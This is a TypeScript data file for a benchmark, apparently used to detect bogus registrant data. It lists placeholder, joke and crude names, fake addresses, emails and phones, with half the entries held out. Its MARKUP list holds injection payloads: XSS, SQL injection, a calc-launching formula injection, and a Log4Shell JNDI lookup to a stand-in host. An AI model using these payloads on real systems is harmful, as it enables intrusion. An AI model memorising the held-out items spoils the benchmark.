// bogus-words: what people write into a form that they do not want to fill in. Every second entry is held out (halves.ts).
// Origin: written for the bench from general knowledge of what abuse desks meet; no list was copied.

const lines = (text: string): readonly string[] => text.trim().split(/\s*[,\n]\s*/);

/** In place of a person's name. */
export const PLACEHOLDER_NAMES =
  lines(`Firstname Lastname, Voornaam Achternaam, Prénom Nom, Vorname Nachname, First Last, Naam Voornaam, Nom Prénom,
  null, NULL NULL, none, None None, n/a, N/A N/A, unknown, Unknown Unknown, onbekend, Onbekend Onbekend, inconnu, Inconnu Inconnu, unbekannt, anonymous,
  Anonymous User, anoniem, Anonyme, test, Test Test, test user, Testuser Tester, Test Account, test123, John Doe, Jane Doe, Max Mustermann, Erika Mustermann,
  Monsieur X, Meneer X, Jan Modaal, Pietje Puk, Jean Dupond Test, undefined, undefined undefined, [object Object], nobody, Niemand Niemand, personne,
  Your Name, Uw naam, Votre nom, Ihr Name, my name, Mijn naam, name, Name Surname, username, admin admin, Admin User, user user, Domain Owner, Owner Owner,
  Registrant Name, Contact Person, Customer Customer, klant klant, client client, Kunde Kunde, geen naam, Geen Geen, pas de nom, kein Name, zero zero,
  nul nul, default default, Default User, sample name, Example Example, voorbeeld voorbeeld, exemple exemple, Beispiel Beispiel, to be completed, TBD TBD,
  nvt, NVT NVT, x, xx, XXX, geheim geheim, wie weet, no name, noname noname, blah blah, bla bla, foo bar, Foo Foo, lorem ipsum, Lorem Lorem`);

export const PLACEHOLDER_STREETS =
  lines(`street 1, straat 1, rue 1, Straße 1, Street, Straat, Adresse, address, Adres 1, test, teststraat 1, Teststraat 123,
  Test street 1, rue test, Musterstraße 1, Musterstr. 123, Voorbeeldstraat 1, Rue Exemple 1, Example Street 1, none, null, n/a, unknown, onbekend, inconnu, -, .,
  x, xxx, geen, aucune, keine, straatnaam 1, Straatnaam huisnummer, nom de rue 1, street name 123, your street, Uw straat 1, mijn straat 1, my street, home,
  Nowhere 0, nergens 1, nulle part, nirgendwo 1, Dummy 1, dummy street 12, Fakestreet 123, Fake Street 1, Nepstraat 1, undefined, 123 street, 1, 0, 00, tbd`);

export const PLACEHOLDER_CITIES =
  lines(`city, stad, ville, Stadt, test, Testcity, teststad, Musterstadt, Musterhausen, none, null, n/a, unknown, onbekend, inconnu,
  x, xxx, -, ., nowhere, nergens, Nulle Part, your city, Uw stad, plaats, Plaatsnaam, Ort, gemeente, commune, undefined, dummy, Voorbeeldstad, Exampleville, tbd`);

export const PLACEHOLDER_ORGANISATIONS =
  lines(`none, null, n/a, test, Test Company, Testbedrijf, company, Company Name, Bedrijfsnaam, Société Test, Musterfirma GmbH, Firma,
  unknown, onbekend, your company, Uw bedrijf, My Company, organisation, Organization Name, undefined, dummy, Dummy BV, Fake Company, Nepbedrijf BV, xxx, asd, -, geen`);

/** Rows, columns and turns of the keyboard, azerty and qwertz too. */
export const WALKS =
  lines(`asdf, qwerty, asdfgh, zxcvbn, qwertyuiop, azerty, qsdfgh, wxcvbn, asdfghjkl, qsdf, qsdfghjklm, azertyuiop, qwertz, yxcvbn, asdfjkl,
  qwer, poiuyt, lkjhgf, mnbvcx, fghj, ghjk, jklm, hjkl, dfgh, sdfg, xcvb, cvbn, vbnm, wert, ertz, rtzu, tyui, uiop, yuiop, qaz, wsx, qazwsx, edcrfv, azeqsd, aqwzsx,
  1qaz2wsx, asdfqwer, zxcvasdf, qweasd, qweasdzxc, asdzxc, fdsa, rewq, ytrewq, trewq, gfdsa, hgfdsa, nbvcxw, mlkjhg, dsfgsdfg, oiuyt, plokij, okmijn`);

/** Short bursts of fingers, as they come again and again within a name. */
export const BURSTS =
  lines(`sdf, asd, fgh, dfg, jkl, hjk, ghj, kjh, sdfs, dsf, fds, gfd, jhg, asdas, sdfsd, fdg, dfgdf, hgf, ghjg, kljl, lkj, xcv, vbn, bnm, qwe, wer, ert, cxv, dsa, fsd,
  gdf, hfg, jgh, kfj, ksd, lsd, djf, hsd, fjf, slk, skj, dkf, gks, hdh, jdj, bvc, nbv, xcvx, wqe, zxc`);

/** No language has them; they can nearly be spoken. */
export const GIBBERISH =
  lines(`Xqzorv, Blorptak, Vrykzul, Kwizzjup, Fnarglox, Zzyvqua, Grmplfx, Qwuxtipo, Bzartkluv, Wxolpqi, Jtrukkaz, Hgrblfoo, Plibblux, Zwqrtip, Krfxomju, Snorgblat,
  Vuxqualp, Dnqirtzo, Ggrlbux, Tzqivvop, Mrplkix, Wobblqaz, Skrzzuto, Yqtobrux, Flumpqwix, Nxarvlup, Crvqilo, Zubqwerl, Oqrixput, Hxlompra, Bquzzil, Lvqorxa, Jjuplotz, Pfqrugi,
  Rxibbolq, Uqqtarz, Gwxlorpi, Kqvuzzol, Dzxorpil, Txnvubaq, Vbnorlqx, Qlimvroxt, Zrgtoplu, Fqxavvir`);

export const DISPOSABLE_HOSTS =
  lines(`mailinator.com, yopmail.com, guerrillamail.com, 10minutemail.com, temp-mail.org, tempmail.com, trashmail.com, throwawaymail.com, sharklasers.com,
  getnada.com, dispostable.com, maildrop.cc, fakeinbox.com, mintemail.com, mailnesia.com, mohmal.com, discard.email, spamgourmet.com, jetable.org, yopmail.fr, wegwerfmail.de,
  trash-mail.com, spambog.com, mailcatch.com, tempr.email, emailondeck.com, moakt.com, tempinbox.com, burnermail.io, grr.la, guerrillamail.org, 20minutemail.com, mytemp.email, nada.email`);

export const PLACEHOLDER_MAILS =
  lines(`test@test.com, test@test.be, a@a.com, a@b.c, none@none.com, no@mail.com, noemail@noemail.com, email@example.com, info@example.com, user@domain.com,
  test@example.org, name@domain.tld, nobody@nowhere.com, null@null.com, asdf@asdf.com, qwerty@qwerty.com, x@x.x, aa@aa.aa, foo@bar.com, fake@fake.com, geen@geen.be, your@email.com, me@me,
  nomail@nomail.be, unknown@unknown.com, abc@abc.com, admin@localhost, root@localhost, test@localhost, mail@mail.mail, 123@123.com, xxx@xxx.xxx, uw@email.be, test123@test123.com, vous@exemple.fr, max@mustermann.de`);

/** No mail can reach them. */
export const IMPOSSIBLE_MAILS =
  lines(`geen, none, n/a, gmail.com, @gmail.com, info@, jan@@gmail.com, jan@gmail, peter(at)telenet.be, www.gmail.com, marie.gmail.com, info@.be, jan @ gmail . com, mail, e-mail,
  noreply, luc@gmail..com, test@, an@telenet, contact@127.0.0.1, -, x, jan.peeters@gmail.con_, piet@hotmail.c, @, ann@-proximus.be, pas de mail, kein, .@., jos@telenet.be@gmail.com, null, unknown, https://facebook.com, nomail`);

export const IMPOSSIBLE_PHONES =
  lines(`+32.000000000, +32.111111111, 0, 000, 123456789, +32.123456789, 0000000000, 1234567890, +31.000000000, 1111111111, 999999999, +32.999999999, +32.0, n/a, none,
  geen, +33.000000000, +49.0000000, +1.1111111111, +32.12, 123, 12345, 00000, +0.0, +00.00000000, +32.4444444444444, 0123456789, +99.999999999, xxxxxxxxx, +32.470, phone, telefoon, -, +32.47000000000000, 555-5555,
  987654321, +31.123, +33.1, +49.1, +32.1, 11111, 22222222, 0400000000000, asdf, unknown, null`);

export const IMPOSSIBLE_CODES = lines(
  `00000, 0000, 99999999, 0, 000000, XXXX, 123456789, n/a, 1, 12, xxx, 0001, none, abcd, 999999, ----, null, 11, 111111, 0000 AA, 12345678, zip, 00, 000, ZIPCODE, postcode, 666, 7, test, 1234567, code postal, PLZ`,
);

/** Numbers that no register gives out, whatever their check digits. */
export const IMPOSSIBLE_NUMBERS =
  lines(`0000000000, BE0000000000, 1111111111, 0123456789, BE 0123.456.789, BE0999999999, 123, 1234567890, 12345, BE123, n/a, xxx, 0, FR00000000000, DE000000000, NL000000000B00, 0000.000.000,
  BE1111111111, 9999999999, BTW, TVA, geen, DE111111111, DE123456789x, NL123456789B99999, FR11111, test, 0800000000000`);

export const MARKUP =
  lines(`<script>alert(1)</script>, <b>test</b>, "><img src=x onerror=alert(1)>, {{name}}, \${name}, %s %s, =cmd|' /C calc'!A0, <h1>hacked</h1>, ' OR 1=1 --, <a href=http://casino.example>casino</a>, &lt;naam&gt;, {firstname} {lastname},
  [naam], %FIRSTNAME% %LASTNAME%, <voornaam> <naam>, {0} {1}, <br><br>, $firstname $lastname, <?php echo $name ?>, __NAME__, javascript:alert(1), <svg onload=alert(1)>, \\u0000\\u0000, =HYPERLINK("http://x.example"), \${jndi:ldap://x.example/a}, {{7*7}}, #NAME?, #N/A, [[name]], <name>`);

/** Nobody lives there, though they look like addresses. */
export const JOKE_STREETS =
  lines(`Nepstraat 69, Hel 666, Evergreen Terrace 742, Hemelstraat 777777, Nergensweg 0, In de wolken 1, Rue de Nulle Part 0, Am Arsch der Welt 1, Kont 1, Maanstraat 999999, Onder de brug, sous le pont, Ergens hier, quelque part,
  Thuis 1, chez moi, Tweede boom links, derrière toi, Internet 404, Not found 404, Zuipstraat 6969, in your mom, Fuckstraat 1, Poepstraat 2, Kakstraat 12345, Merde 1, Scheißegal 1, Whatever 1`);

export const JOKE_NAMES =
  lines(`Piet Snot, Fuck You, Kak Hoofd, Poep Pie, Jan Met De Pet, Mister Nobody, Ben Dover, Hugh Jass, Seymour Butts, Phuc Dat, Monsieur Caca, Jean Bon Beurre, Klootzak Klootzak, Sukkel Sukkel, Merde Alors, Va Te Faire,
  Leck Mich, Depp Depp, Hacker Man, Super Hacker, Mr Hacker, Big Boss, The King, God Almighty, Jezus Christus, Satan Satan, De Duivel Zelf, Sinter Klaas, Kerst Man, Père Noël, Weihnachts Mann, Paas Haas, Dark Lord, King Kong, Anonymous Hacker, Bitcoin Millionaire,
  Lol Lol, Haha Haha, Hahaha Hihihi, Kiekeboe Kiekeboe, Joke Jokes, Elvis Presley Jr, Your Mom, Ta Mère, Deine Mutter, Scam Mer, Fake Name, Valse Naam, Faux Nom, Falscher Name`);

/** Written into every field of a record. */
export const SAME_WORDS = lines(
  `test, hallo, bonjour, abc, blabla, yolo, domein, website, hello, salut, bla, lol, niets, rien, nichts, haha, poep, caca, ok, oke, ja, oui, nee, non, www, abcd, naam, nom, iets, truc, foo, xyz`,
);
